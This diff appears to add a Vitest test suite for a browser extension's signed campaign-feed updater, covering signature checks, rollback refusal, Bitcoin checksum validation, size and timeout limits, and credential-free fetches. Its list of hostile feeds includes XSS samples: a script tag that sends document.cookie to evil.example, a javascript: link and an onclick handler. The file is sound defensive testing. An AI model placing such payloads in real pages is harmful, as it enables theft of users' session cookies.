@@ -1,0 +1,272 @@
+// @vitest-environment node
+// Node's own fetch against a real HTTP server on 127.0.0.1: the transport limits are real, not simulated.
+import type { ServerResponse } from 'node:http';
+import { base64 } from '@scure/base';
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { fakeBrowser } from 'wxt/testing/fake-browser';
+import { loadAddressChanges } from '@/utils/campaign/address-changes';
+import { bundledCampaign } from '@/utils/campaign/bundled';
+import { loadCampaign } from '@/utils/campaign/current';
+import { FEED_LIMITS } from '@/utils/feed/fetch-feed';
+import { refreshCampaign, refreshIfStale } from '@/utils/feed/refresh-campaign';
+import { acceptedCampaign, lastCheck, updatesEnabled } from '@/utils/storage';
+import { type FixtureServer, startServer } from '../../e2e/harness/server';
+import { campaignVersion, goodUpdate, makeSigner, OTHER_BITCOIN } from './signed-feeds';
+
+type Signer = Awaited<ReturnType<typeof makeSigner>>;
+type Answer = (res: ServerResponse) => void;
+
+let server: FixtureServer;
+let signer: Signer;
+let stranger: Signer;
+let answer: Answer;
+/** Bytes the server managed to write for the current answer: proves a cut-off happened while streaming. */
+let bytesSent = 0;
+/** Whether the server got to the end of its answer, or the client hung up first. */
+let bodyFinished = false;
+
+const json =
+  (body: string, type = 'application/json'): Answer =>
+  (res) => {
+    res.writeHead(200, { 'content-type': type });
+    res.end(body);
+  };
+
+const FAST = { ...FEED_LIMITS, timeoutMs: 1500 };
+
+beforeAll(async () => {
+  signer = await makeSigner();
+  stranger = await makeSigner();
+  server = await startServer({
+    routes: [
+      (req, res) => {
+        if (req.url !== '/feed.json') return false;
+        bytesSent = 0;
+        bodyFinished = false;
+        answer(res);
+        return true;
+      },
+    ],
+  });
+});
+afterAll(() => server?.close());
+
+beforeEach(async () => {
+  fakeBrowser.reset();
+  vi.stubEnv('FEED_URL', `${server.url}/feed.json`);
+  vi.stubEnv('FEED_PUBLIC_KEY', signer.publicKey);
+  server.requests.length = 0;
+});
+
+/** Everything a user could see change: the campaign in use, the stored update, the address notices. */
+const snapshot = async () => ({
+  campaign: await loadCampaign(),
+  stored: await acceptedCampaign.getValue(),
+  changes: await loadAddressChanges(),
+});
+
+describe('a good update', () => {
+  it('is fetched without credentials or referrer, accepted, and flags the changed address with its date', async () => {
+    answer = json(await signer.sign(goodUpdate(bundledCampaign.version + 1)));
+    const outcome = await refreshCampaign(FAST);
+    expect(outcome).toMatchObject({ checked: true, ok: true, changed: true });
+    const campaign = await loadCampaign();
+    expect(campaign.version).toBe(bundledCampaign.version + 1);
+    expect(campaign.donations.find((d) => d.kind === 'bitcoin')?.account).toBe(OTHER_BITCOIN);
+    expect(await loadAddressChanges()).toEqual({ bitcoin: '2026-12-01' });
+    expect(await lastCheck.getValue()).toMatchObject({ ok: true, reason: /updated to version/ });
+    const [request] = server.requests;
+    expect(request?.headers.cookie).toBeUndefined();
+    expect(request?.headers.referer).toBeUndefined();
+  });
+
+  it('the same feed again is "up to date" and changes nothing', async () => {
+    answer = json(await signer.sign(goodUpdate(bundledCampaign.version + 1)));
+    await refreshCampaign(FAST);
+    const before = await snapshot();
+    expect(await refreshCampaign(FAST)).toMatchObject({ ok: true, changed: false, reason: /up to date/ });
+    expect(await snapshot()).toEqual(before);
+  });
+});
+
+const v = bundledCampaign.version;
+/** The hostile feeds, served for real. The campaign in use is version v+1, an accepted update. */
+const HOSTILE: [string, () => Promise<Answer>, RegExp][] = [
+  [
+    'bad signature',
+    async () => {
+      const feed = JSON.parse(await signer.sign(goodUpdate(v + 2)));
+      const signature = base64.decode(feed.signature);
+      signature[0] = (signature[0] ?? 0) ^ 0x80;
+      return json(JSON.stringify({ ...feed, signature: base64.encode(signature) }));
+    },
+    /signature is not the campaign's/,
+  ],
+  [
+    'signature by another key',
+    async () => json(await stranger.sign(goodUpdate(v + 2))),
+    /signature is not the campaign's/,
+  ],
+  ['older version', async () => json(await signer.sign(campaignVersion(v))), /rollback refused/],
+  [
+    'same version, other content',
+    async () => json(await signer.sign(campaignVersion(v + 1))),
+    /already in use with other content/,
+  ],
+  [
+    'Bitcoin address with a broken checksum, validly signed',
+    async () =>
+      json(
+        await signer.sign(
+          campaignVersion(v + 2, (c) => {
+            const bitcoin = c.donations.find((d) => d.kind === 'bitcoin');
+            if (bitcoin) bitcoin.account = OTHER_BITCOIN.replace('Na', 'Nb');
+          }),
+        ),
+      ),
+    /Bitcoin address checksum/,
+  ],
+  [
+    'http link',
+    async () =>
+      json(
+        await signer.sign(
+          campaignVersion(v + 2, (c) => {
+            c.links[0]!.url = 'http://example.org/';
+          }),
+        ),
+      ),
+    /https/,
+  ],
+  [
+    'javascript: link',
+    async () =>
+      json(
+        await signer.sign(
+          campaignVersion(v + 2, (c) => {
+            c.links[0]!.url = 'javascript:alert(document.cookie)';
+          }),
+        ),
+      ),
+    /links\[0\]\.url/,
+  ],
+  [
+    'script HTML',
+    async () =>
+      json(
+        await signer.sign(
+          campaignVersion(v + 2, (c) => {
+            c.summary.short.en = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
+          }),
+        ),
+      ),
+    /summary\.short\.en contains HTML markup/,
+  ],
+  [
+    'event-handler HTML',
+    async () =>
+      json(
+        await signer.sign(
+          campaignVersion(v + 2, (c) => {
+            c.timeline[0]!.text.en = 'Detained <a href="#" onclick="steal()">here</a>';
+          }),
+        ),
+      ),
+    /timeline\.0\.text\.en contains HTML markup/,
+  ],
+  [
+    '10 MB body',
+    async () => (res) => {
+      res.writeHead(200, { 'content-type': 'application/json' });
+      const chunk = Buffer.alloc(64 * 1024, 0x20);
+      const send = () => {
+        while (bytesSent < 10 * 1024 * 1024) {
+          bytesSent += chunk.length;
+          if (!res.write(chunk)) return void res.once('drain', send);
+        }
+        bodyFinished = true;
+        res.end();
+      };
+      res.on('error', () => {});
+      send();
+    },
+    /larger than 256 KB/,
+  ],
+  [
+    'body that never finishes',
+    async () => (res) => {
+      res.writeHead(200, { 'content-type': 'application/json' });
+      res.write('{"format": "solidarity-call-feed/1", ');
+    },
+    /no complete answer within 1.5 s/,
+  ],
+  ['invalid JSON', async () => json('{"format": "solidarity-call-feed/1", "payload": "'), /not valid JSON/],
+  [
+    'wrong content type',
+    async () => json(await signer.sign(goodUpdate(v + 2)), 'text/html; charset=utf-8'),
+    /served as text\/html/,
+  ],
+  [
+    'server error',
+    async () => (res) => {
+      res.writeHead(500).end();
+    },
+    /answered 500/,
+  ],
+];
+
+describe('hostile feeds, served over HTTP: each is rejected with a reason and changes nothing', () => {
+  it.each(HOSTILE)('%s', async (_name, hostile, reason) => {
+    answer = json(await signer.sign(goodUpdate(v + 1)));
+    await refreshCampaign(FAST);
+    const before = await snapshot();
+    expect(before.campaign.version).toBe(v + 1);
+
+    answer = await hostile();
+    const outcome = await refreshCampaign(FAST);
+    expect(outcome).toMatchObject({ checked: true, ok: false, changed: false, reason: expect.stringMatching(reason) });
+    expect(await lastCheck.getValue()).toMatchObject({ ok: false, reason: expect.stringMatching(reason) });
+    expect(await snapshot()).toEqual(before);
+  });
+
+  it('cuts a 10 MB body off while it streams, long before the end', async () => {
+    answer = await HOSTILE.find(([name]) => name === '10 MB body')![1]();
+    await refreshCampaign(FAST);
+    await new Promise((r) => setTimeout(r, 200));
+    // The client stops reading past 256 KB; what is in flight is socket buffers, not the 10 MB.
+    console.info(`10 MB feed: the server wrote ${bytesSent} bytes before the client cut it off`);
+    expect(bodyFinished).toBe(false);
+    expect(bytesSent).toBeLessThan(10 * 1024 * 1024);
+  });
+
+  it('keeps the real limits at 10 s and 256 KB', () => {
+    expect(FEED_LIMITS).toEqual({ timeoutMs: 10_000, maxBytes: 256 * 1024 });
+  });
+});
+
+describe('when no request is made', () => {
+  it('makes none with updates turned off', async () => {
+    answer = json(await signer.sign(goodUpdate(v + 1)));
+    await updatesEnabled.setValue(false);
+    expect(await refreshCampaign(FAST)).toEqual({ checked: false });
+    expect(await refreshIfStale()).toEqual({ checked: false });
+    expect(server.requests).toEqual([]);
+    expect((await loadCampaign()).version).toBe(v);
+  });
+
+  it('makes none in a build without a feed', async () => {
+    vi.stubEnv('FEED_URL', '');
+    expect(await refreshCampaign(FAST)).toEqual({ checked: false });
+    expect(server.requests).toEqual([]);
+  });
+
+  it('checks from the popup only when the last check is stale', async () => {
+    answer = json(await signer.sign(goodUpdate(v + 1)));
+    await lastCheck.setValue({ at: Date.now() - 60_000, ok: true, reason: 'up to date' });
+    expect(await refreshIfStale()).toEqual({ checked: false });
+    expect(server.requests).toEqual([]);
+    await lastCheck.setValue({ at: Date.now() - 25 * 60 * 60 * 1000, ok: true, reason: 'up to date' });
+    expect(await refreshIfStale()).toMatchObject({ checked: true, changed: true });
+    expect(server.requests).toHaveLength(1);
+  });
+});
